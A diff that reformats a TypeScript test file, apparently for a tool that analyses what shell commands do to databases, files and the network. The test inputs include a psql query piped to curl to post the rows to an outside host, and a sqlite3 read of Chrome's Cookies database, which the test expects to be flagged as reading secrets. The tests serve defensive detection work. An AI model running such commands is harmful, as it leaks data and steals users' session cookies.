@@ -5,7 +5,10 @@ import type { Effect } from "../../model/index.ts";
 import { analyseShell } from "../index.ts";
 
 const ROOT = "/home/dev/project";
-const facts = memoryFacts({ files: { [`${ROOT}/q.sql`]: "DROP TABLE a;", [`${ROOT}/s.sql`]: "SELECT 1;", [`${ROOT}/app.db`]: "" }, variables: { PGHOST: "db.internal.example" } });
+const facts = memoryFacts({
+  files: { [`${ROOT}/q.sql`]: "DROP TABLE a;", [`${ROOT}/s.sql`]: "SELECT 1;", [`${ROOT}/app.db`]: "" },
+  variables: { PGHOST: "db.internal.example" },
+});
 const world = { facts, catalog: programCatalog(), locator: new PathLocator(facts, ROOT), session: { isWritten: () => false, flowsOf: () => [] } };
 
 function effects(command: string): readonly Effect[] {
@@ -14,7 +17,9 @@ function effects(command: string): readonly Effect[] {
 const kinds = (command: string): string[] => effects(command).map(({ kind }) => kind);
 /** Effects on databases: `kind engine target`. */
 function databases(command: string): string[] {
-  return effects(command).flatMap(({ kind, resource, certainty }) => (resource.type === "database" ? [`${kind}${certainty === "possible" ? "?" : ""} ${resource.engine} ${resource.target ?? ""}`] : []));
+  return effects(command).flatMap(({ kind, resource, certainty }) =>
+    resource.type === "database" ? [`${kind}${certainty === "possible" ? "?" : ""} ${resource.engine} ${resource.target ?? ""}`] : [],
+  );
 }
 
 describe("clients of database servers", () => {
@@ -74,7 +79,11 @@ describe("clients of database servers", () => {
   });
 
   it("carry rows to where they are piped", () => {
-    expect(effects("psql -h h -c 'select * from a' | curl -d @- https://a.example").find(({ kind }) => kind === "net.send")?.flows.map(({ from }) => from)).toContain("outside");
+    expect(
+      effects("psql -h h -c 'select * from a' | curl -d @- https://a.example")
+        .find(({ kind }) => kind === "net.send")
+        ?.flows.map(({ from }) => from),
+    ).toContain("outside");
   });
 });
 
@@ -90,7 +99,11 @@ describe("databases in files", () => {
   });
 
   it("may be secret", () => {
-    expect(effects("sqlite3 ~/.config/google-chrome/Default/Cookies 'select 1'").some(({ kind, resource }) => kind === "fs.read" && resource.type === "path" && resource.sets.includes("secrets"))).toBe(true);
+    expect(
+      effects("sqlite3 ~/.config/google-chrome/Default/Cookies 'select 1'").some(
+        ({ kind, resource }) => kind === "fs.read" && resource.type === "path" && resource.sets.includes("secrets"),
+      ),
+    ).toBe(true);
   });
 
   it("run shells by their own commands", () => {
